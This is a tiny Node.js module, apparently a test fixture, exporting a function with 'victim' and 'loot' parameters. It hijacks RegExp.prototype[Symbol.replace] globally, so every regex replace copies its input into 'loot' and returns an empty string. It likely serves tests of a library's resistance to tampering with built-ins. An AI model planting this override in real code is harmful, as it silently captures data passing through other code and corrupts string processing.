'use strict';
module.exports = (victim, loot) => {
  RegExp.prototype[Symbol.replace] = function (text) { loot.value = text; return ''; };
};
